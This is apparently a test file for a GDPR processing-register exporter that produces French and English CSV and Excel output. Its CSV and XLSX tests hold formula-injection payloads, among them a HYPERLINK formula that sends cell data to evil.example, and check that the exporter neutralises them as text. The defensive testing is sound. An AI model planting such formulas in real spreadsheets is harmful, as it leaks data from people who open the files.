import ExcelJS from 'exceljs';
import { getLocalePack, REGISTER_COLUMNS, SECURITY_MEASURE_KINDS } from '../../server/src/core';
import { currentVersions, registerActivities, type PublishedStatement, type RegisterSource } from '../../server/src/mapping/register';
import { neutralise, registerCsv } from '../../server/src/mapping/register-csv';
import { registerWorkbook, sheetName } from '../../server/src/mapping/register-xlsx';
import type { Doc } from '../../server/src/mapping/to-input';

const NBSP = '\u00a0';
const NNBSP = '\u202f';
const fr = getLocalePack('fr');
const en = getLocalePack('en');

const controller = {
  documentId: 'ctrl',
  name: 'Clermont Auvergne Métropole',
  street: '64-66 avenue de l’Union Soviétique',
  postalCode: '63007',
  city: 'Clermont-Ferrand Cedex 1',
  country: 'FR',
  phone: '+33 4 73 98 34 00',
  email: 'contact@clermontmetropole.eu',
  representativeName: 'Olivier Bianchi',
  representativeTitle: 'président',
  outsideEu: false,
};
const dpo = { documentId: 'dpo', label: 'DPO', appointed: true, name: 'Délégué à la protection des données', email: 'dpo@clermontmetropole.eu' };

/** A purpose as the Document Service loads it in one locale, with its relations in that locale. */
const accounts = (texts: { title: string; subject: string; category: string; proof: string; recipient: string; startEvent: string }) => ({
  documentId: 'accounts',
  title: texts.title,
  legalBasis: 'public-task',
  collectedFromDataSubject: true,
  automatedDecision: false,
  dataSubjects: [{ name: texts.subject }],
  dataCategories: [
    { name: texts.category, special: false },
    { name: texts.proof, special: true, erasure: { durationValue: 1, durationUnit: 'years', endAction: 'deletion' } },
  ],
  recipients: [{ name: texts.recipient, kind: 'processor' }],
  transfers: [{ country: 'US', recipientName: 'Mailer Inc.', safeguard: 'scc', copyUrl: 'https://example.fr/cct' }],
  retention: { durationValue: 3, durationUnit: 'years', startEvent: texts.startEvent, endAction: 'deletion' },
});

const frAccounts = accounts({
  title: 'Gestion des comptes des utilisateurs',
  subject: 'Usagers du portail',
  category: 'Données de connexion',
  proof: 'Pièces justificatives',
  recipient: 'Hébergeur',
  startEvent: 'la dernière connexion au compte',
});
const enAccounts = accounts({
  title: 'Management of user accounts',
  subject: 'Users of the portal',
  category: 'Connection data',
  proof: 'Proofs of identity',
  recipient: 'Host',
  startEvent: 'the last log-in to the account',
});

const measures = [
  { documentId: 'm1', kind: 'access-control', detail: 'Comptes nominatifs' },
  { documentId: 'm2', kind: 'backup', detail: 'Sauvegarde quotidienne' },
];

const site = (slug: string, fields: Partial<Doc> = {}): Doc => ({
  documentId: `site-${slug}`,
  name: `Portail ${slug}`,
  slug,
  controller,
  dpo,
  securityMeasureList: measures,
  purposes: [frAccounts],
  ...fields,
});

const source = (doc: Doc, locales = ['fr', 'en']): RegisterSource => ({
  site: doc,
  purposeLocales: Object.fromEntries(((doc.purposes ?? []) as Doc[]).map((p) => [p.documentId, locales])),
});

describe('the register by processing activity', () => {
  it('holds every Art. 30(1) item of an activity, in French', () => {
    const [activity] = registerActivities([source(site('a'))], [], fr);
    expect(activity).toEqual({
      number: 1,
      key: 'accounts',
      purposeDocumentId: 'accounts',
      activity: 'Gestion des comptes des utilisateurs',
      description: '',
      sites: [{ name: 'Portail a', slug: 'a', locales: ['fr', 'en'] }],
      publishedIn: [],
      controller: {
        name: 'Clermont Auvergne Métropole',
        address: '64-66 avenue de l’Union Soviétique, 63007 Clermont-Ferrand Cedex 1',
        phone: '+33 4 73 98 34 00',
        email: 'contact@clermontmetropole.eu',
        legalRepresentative: 'Olivier Bianchi, président',
      },
      euRepresentative: null,
      dpo: { name: 'Délégué à la protection des données', organisation: '', address: '', phone: '', email: 'dpo@clermontmetropole.eu' },
      dpoAppointed: true,
      legalBasis: `mission d’intérêt public (article${NBSP}6.1.e du RGPD)`,
      legitimateInterest: '',
      dataSubjects: ['Usagers du portail'],
      dataCategories: [
        { name: 'Données de connexion', description: '', special: false, erasure: '' },
        { name: 'Pièces justificatives', description: '', special: true, erasure: `1${NBSP}an, puis suppression` },
      ],
      dataSources: 'la personne concernée',
      recipients: [{ name: 'Hébergeur', kind: 'sous-traitant' }],
      transfers: [
        {
          country: 'États-Unis',
          recipient: 'Mailer Inc.',
          safeguard: `transfert encadré par les clauses contractuelles types adoptées par la Commission européenne (article${NBSP}46.2.c du RGPD)`,
          detail: '',
          copyUrl: 'https://example.fr/cct',
        },
      ],
      retention: `3${NBSP}ans à compter de la dernière connexion au compte, puis suppression`,
      securityMeasures: [
        { kind: 'access-control', heading: 'Contrôle d’accès des utilisateurs', detail: 'Comptes nominatifs' },
        { kind: 'backup', heading: 'Sauvegarde des données', detail: 'Sauvegarde quotidienne' },
      ],
      automatedDecision: 'non',
      missing: [],
    });
  });

  it('writes the fixed words in English from the English entries', () => {
    const [activity] = registerActivities([source(site('a', { purposes: [enAccounts] }))], [], en);
    expect(activity).toMatchObject({
      activity: 'Management of user accounts',
      legalBasis: `public task (Article${NBSP}6(1)(e) GDPR)`,
      dataSubjects: ['Users of the portal'],
      dataSources: 'the data subject',
      recipients: [{ name: 'Host', kind: 'processor' }],
      retention: `3${NBSP}years from the last log-in to the account, then deleted`,
      securityMeasures: [expect.objectContaining({ heading: 'User access control' }), expect.objectContaining({ heading: 'Data backup' })],
      automatedDecision: 'no',
    });
    expect(JSON.stringify(activity)).not.toMatch(/ à compter | puis |personne concernée|RGPD/);
  });

  it('makes one activity of a purpose shared by several sites, with their sites and locales', () => {
    const activities = registerActivities([source(site('a')), source(site('b'), ['fr'])], [], fr);
    expect(activities).toHaveLength(1);
    expect(activities[0].sites).toEqual([
      { name: 'Portail a', slug: 'a', locales: ['fr', 'en'] },
      { name: 'Portail b', slug: 'b', locales: ['fr'] },
    ]);
  });

  it('keeps a purpose separate where its facts differ between sites', () => {
    const other = { ...controller, documentId: 'other', name: 'Commune de Royat' };
    const activities = registerActivities([source(site('a')), source(site('b', { controller: other })), source(site('c'))], [], fr);
    expect(activities.map((a) => [a.key, a.controller?.name, a.sites.map((s) => s.slug)])).toEqual([
      ['accounts', 'Clermont Auvergne Métropole', ['a', 'c']],
      ['accounts~2', 'Commune de Royat', ['b']],
    ]);
    const fewerMeasures = registerActivities([source(site('a')), source(site('b', { securityMeasureList: [measures[0]] }))], [], fr);
    expect(fewerMeasures).toHaveLength(2);
  });

  it('names the Art. 30(1) items the entries leave empty; a DPO contact saying none is appointed is an answer', () => {
    const bare = site('a', {
      controller: { documentId: 'x', name: 'Société X', outsideEu: true },
      dpo: { documentId: 'd', label: 'Pas de DPO', appointed: false },
      securityMeasureList: [],
      purposes: [{ documentId: 'p', title: 'Prospection', dataCategories: [], dataSubjects: [] }],
    });
    const [activity] = registerActivities([source(bare)], [], fr);
    expect(activity.dpo).toBeNull();
    expect(activity.missing).toEqual(['controllerContact', 'euRepresentative', 'legalBasis', 'dataSubjects', 'dataCategories', 'retention', 'securityMeasures']);
    const [noDpo] = registerActivities([source({ ...bare, dpo: null })], [], fr);
    expect(noDpo.missing).toContain('dpo');
  });

  it('shows the published versions that state the activity', () => {
    const statements: PublishedStatement[] = [
      { siteDocumentId: 'site-a', siteSlug: 'a', kind: 'privacy-policy', locale: 'fr', version: 3, inForce: true, purposeIds: ['accounts'] },
      { siteDocumentId: 'site-a', siteSlug: 'a', kind: 'privacy-summary', locale: 'en', version: 1, inForce: false, purposeIds: ['accounts'] },
      { siteDocumentId: 'site-a', siteSlug: 'a', kind: 'privacy-policy', locale: 'en', version: 2, inForce: true, purposeIds: ['other'] },
      { siteDocumentId: 'site-z', siteSlug: 'z', kind: 'privacy-policy', locale: 'fr', version: 1, inForce: true, purposeIds: ['accounts'] },
    ];
    const [activity] = registerActivities([source(site('a'))], statements, fr);
    expect(activity.publishedIn).toEqual([
      { site: 'a', kind: 'privacy-policy', page: 'Politique de confidentialité', locale: 'fr', version: 3, inForce: true },
      { site: 'a', kind: 'privacy-summary', page: fr.pageTitles['privacy-summary'], locale: 'en', version: 1, inForce: false },
    ]);
  });

  it('takes the version in force and the next scheduled one of each page, as the public route does', () => {
    const row = (id: number, number: number, effectiveAt: string, locale = 'fr') => ({ id, siteDocumentId: 's', siteSlug: 's', kind: 'privacy-policy' as const, locale, number, effectiveAt });
    const now = new Date('2026-06-01T00:00:00Z');
    const picked = currentVersions([row(1, 1, '2026-01-01'), row(2, 2, '2026-03-01'), row(3, 3, '2026-07-01'), row(4, 4, '2026-08-01'), row(5, 1, '2026-02-01', 'en')], now);
    expect(picked.map((r) => [r.id, r.inForce])).toEqual([
      [2, true],
      [3, false],
      [5, true],
    ]);
  });
});

describe('the register as CSV', () => {
  it('neutralises a cell that a spreadsheet would run as a formula', () => {
    for (const value of ['=HYPERLINK("http://x")', '+33 1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutralise(value)).toBe(`'${value}`);
    for (const value of ['Gestion', ' =1', 'a=b', '']) expect(neutralise(value)).toBe(value);
  });

  it('neutralises every field, quoted as RFC 4180 asks', () => {
    const evil = { ...frAccounts, title: '=HYPERLINK("http://evil.example/?"&A1,"x")', dataSubjects: [{ name: '@SUM(1+1)' }] };
    const csv = registerCsv(registerActivities([source(site('a', { purposes: [evil] }))], [], fr), fr);
    const [header, line] = csv.split('\r\n');
    expect(header.split('","')).toHaveLength(REGISTER_COLUMNS.length);
    expect(header).toMatch(/^"N°","Activité de traitement","Description","Sites","Déclarée dans","Responsable du traitement",/);
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(line).toContain(`"'@SUM(1+1)"`);
    // A phone number starts with + too: it stays readable, as text.
    expect(line).toContain(`"64-66 avenue de l’Union Soviétique, 63007 Clermont-Ferrand Cedex 1${NNBSP}; Téléphone${NBSP}: +33 4 73 98 34 00${NNBSP}; Courriel${NBSP}: contact@clermontmetropole.eu"`);
    expect(line).toContain(`"Pièces justificatives${NBSP}: 1${NBSP}an, puis suppression"`);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('has every column, security heading and sheet word in every locale pack', () => {
    for (const pack of [fr, en]) {
      expect(REGISTER_COLUMNS.filter((column) => !pack.register.columns[column])).toEqual([]);
      expect(SECURITY_MEASURE_KINDS.filter((kind) => !pack.register.securityMeasureKinds[kind])).toEqual([]);
      expect(Object.values(pack.register.sheet).every(Boolean)).toBe(true);
    }
  });
});

describe('the register as an XLSX workbook (read back with exceljs)', () => {
  const read = async (buffer: Buffer) => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    return workbook;
  };
  const column = (sheet: ExcelJS.Worksheet, n = 1) => {
    const cells: string[] = [];
    sheet.eachRow((row) => cells.push(String(row.getCell(n).text ?? '')));
    return cells;
  };
  const other = { ...frAccounts, documentId: 'newsletter', title: 'Envoi de la lettre d’information : abonnés et désabonnements' };
  const activities = registerActivities([source(site('a', { purposes: [frAccounts, other] }))], [], fr);

  it('has an overview sheet and one sheet per activity under the CNIL model’s headings, in French', async () => {
    const workbook = await read(await registerWorkbook(activities, fr, { exportedAt: '2026-03-12T10:00:00Z' }));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Registre', '1 Envoi de la lettre d’informa…', '2 Gestion des comptes des util…']);
    const overview = column(workbook.worksheets[0]);
    expect(overview.slice(0, 2)).toEqual(['Registre des activités de traitement', 'Établi le 12 mars 2026']);
    expect(overview).toEqual(expect.arrayContaining(['Responsables du traitement et délégués à la protection des données', 'Activités de traitement']));
    let link: { hyperlink?: string } = {};
    workbook.worksheets[0].eachRow((row) => {
      if (row.getCell(1).text === '1') link = row.getCell(2).value as { hyperlink?: string };
    });
    expect(link.hyperlink).toBe(`#'${workbook.worksheets[1].name}'!A1`);

    const sheet = workbook.worksheets[2];
    expect(column(sheet)).toEqual(
      expect.arrayContaining([
        'Description du traitement',
        'Acteurs',
        'Finalité(s) du traitement effectué',
        'Mesures de sécurité',
        'Contrôle d’accès des utilisateurs',
        'Catégories de données personnelles concernées',
        'Catégories de personnes concernées',
        'Destinataires des données',
        'Transferts des données hors UE',
        'Durées de conservation',
        'Responsable du traitement',
        'Délégué à la protection des données',
        'Usagers du portail',
      ])
    );
    const rows = column(sheet, 2);
    expect(rows).toEqual(expect.arrayContaining(['Gestion des comptes des utilisateurs', 'Comptes nominatifs', 'Clermont Auvergne Métropole']));
  });

  it('writes the headings in English for an English export', async () => {
    const english = registerActivities([source(site('a', { purposes: [enAccounts] }))], [], en);
    const workbook = await read(await registerWorkbook(english, en, { exportedAt: '2026-03-12T10:00:00Z' }));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Record', '1 Management of user accounts']);
    expect(column(workbook.worksheets[1])).toEqual(
      expect.arrayContaining(['Record of the processing activity – Management of user accounts', 'Security measures', 'Categories of data subjects', 'Transfers of data outside the EU'])
    );
  });

  it('keeps an editor’s formula as text: a string cell, never a formula', async () => {
    const evil = registerActivities([source(site('a', { purposes: [{ ...frAccounts, title: '=1+1', description: '@cmd' }] }))], [], fr);
    const workbook = await read(await registerWorkbook(evil, fr, { exportedAt: '2026-03-12T10:00:00Z' }));
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const title = cells.find((cell) => cell.value === '=1+1');
    expect(title?.type).toBe(ExcelJS.ValueType.String);
  });

  it('names sheets as Excel allows: 31 characters, no : \\ / ? * [ ], unique', () => {
    const taken = new Set<string>();
    expect(sheetName('1 Données [test] : a/b?', taken)).toBe('1 Données test a b');
    const long = 'x'.repeat(40);
    expect(sheetName(long, taken)).toHaveLength(31);
    expect(sheetName(long, taken)).not.toBe(sheetName(long, taken));
    expect([...taken].every((name) => name.length <= 31)).toBe(true);
  });
});
